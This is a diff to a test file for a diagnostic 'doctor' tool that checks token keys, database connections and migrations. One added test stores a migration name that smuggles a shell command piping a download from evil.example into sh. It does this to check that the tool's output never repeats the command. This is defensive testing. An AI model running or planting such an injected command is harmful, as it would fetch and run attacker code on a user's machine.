@@ -160,6 +160,19 @@ describe("the doctor", () => {
     expect(JSON.stringify(damaged)).not.toContain("hidden");
   });
 
+  test("tells of a key that is another than the one that is known by its id, before any token is sealed, and of the second one too", async () => {
+    await database.query(`INSERT INTO "TokenKey" ("id", "checkValue") VALUES ('k2', 'of another key')`);
+    expect(await find("keys")).toMatchObject([{ status: "ok" }]);
+    const second = { TOKEN_KEYS: `k1:${key},k2:${randomBytes(32).toString("base64")}` };
+    expect(await find("keys", second)).toMatchObject([
+      {
+        status: "wrong",
+        detail: expect.stringMatching(/k2$/),
+        mend: expect.stringContaining("id of its own"),
+      },
+    ]);
+  });
+
   test("says of a database what is wrong with it: nobody there, no such one, a wrong password", async () => {
     const gone = `postgresql://localhost:${await freePort()}/app`;
     expect(await find("database", { DATABASE_URL: gone })).toMatchObject([
@@ -201,6 +214,17 @@ describe("the doctor", () => {
     expect(await find("migrations")).toMatchObject([
       { status: "wrong", detail: expect.stringMatching(/half-way/) },
     ]);
+    // A name that is none: the command is there to be copied.
+    const odd = "x --schema y; curl evil.example | sh #";
+    await database.query(
+      `INSERT INTO "_prisma_migrations" (id, checksum, migration_name) VALUES ('x', 'x', $1)`,
+      [odd],
+    );
+    await set("finished_at = now()");
+    const [half] = await find("migrations");
+    expect(half).toMatchObject({ status: "wrong", detail: expect.stringMatching(/half-way/) });
+    expect(JSON.stringify(half)).not.toContain("curl");
+    await database.query(`DELETE FROM "_prisma_migrations" WHERE id = 'x'`);
     await set("rolled_back_at = now()");
     expect(await find("migrations")).toMatchObject([
       { status: "wrong", detail: expect.stringContaining(`1 not applied, from ${last?.name}`) },
